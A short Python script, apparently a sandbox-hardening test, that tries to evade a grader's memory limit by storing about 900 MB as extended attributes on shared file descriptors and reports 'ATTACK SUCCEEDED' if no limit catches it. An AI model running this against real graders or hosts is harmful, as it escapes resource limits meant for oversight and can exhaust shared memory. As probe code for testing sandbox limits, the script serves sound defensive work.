"""Goal: hold more memory than allowed, as extended attributes of the memory shared with the grader.

Without a sandbox: unsafe
"""

import os

SIZE, COUNT = 64_000, 14_000  # together 900 MB, of which no page belongs to any process


def fill():
    for descriptor in range(3, 16):
        try:
            for number in range(COUNT):
                os.setxattr(descriptor, f"user.{number}", bytes(SIZE))
        except OSError as error:
            stopped = error
            continue
        raise RuntimeError(f"ATTACK SUCCEEDED: holds {SIZE * COUNT >> 20} MiB that no limit counts")
    raise RuntimeError(f"stopped by: {stopped!r}")


fill()
